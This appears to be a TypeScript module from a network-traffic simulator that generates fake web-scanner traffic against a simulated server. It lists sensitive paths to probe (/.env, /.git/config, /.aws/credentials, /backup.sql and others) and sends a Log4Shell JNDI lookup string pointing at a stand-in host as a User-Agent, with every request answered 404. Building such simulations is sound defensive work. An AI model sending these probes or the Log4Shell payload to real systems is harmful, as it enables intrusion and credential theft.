import type { Script } from '../agenda';
import type { Link } from '../link';
import { OWN_SITES } from '../names';
import { TcpTalk } from '../tcp-talk';
import { httpAnswer, httpRequest, PAGE } from '../wire/http';
import { SERVER } from '../world';

const PATHS = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/xmlrpc.php',
  '/phpmyadmin/index.php',
  '/.aws/credentials',
  '/backup.sql',
  '/server-status',
  '/actuator/env',
  '/solr/admin/info/system',
  '/boaform/admin/formLogin',
  '/config.json.bak',
];
const AGENTS = ['curl/8.5.0', 'python-requests/2.31.0', 'Go-http-client/1.1'] as const;
/** CVE-2021-44228, with a name that nobody has. */
const LOOK_UP = '$' + '{jndi:ldap://probe.example.net/a}';

/** Somebody asks for what should not be there. */
export function* webProbes(link: Link): Script {
  const { random, world } = link;
  const client = world.stranger(random);
  const host = random.pick(OWN_SITES);
  const agent = random.pick(AGENTS);
  const paths = random.shuffled(PATHS).slice(0, random.whole(7, 12));
  for (const [i, path] of paths.entries()) {
    const talk = new TcpTalk(link, { client, server: SERVER, serverPort: 80 });
    yield* talk.connect();
    yield* talk.say(talk.client, httpRequest(random, 'GET', host, path, i === paths.length - 1 ? LOOK_UP : agent));
    yield random.between(0.001, 0.005);
    yield* talk.say(talk.server, httpAnswer(404, PAGE, { 'Content-Type': 'text/html', Connection: 'close' }));
    yield* talk.close(talk.server);
    yield random.between(0.1, 0.5);
  }
}
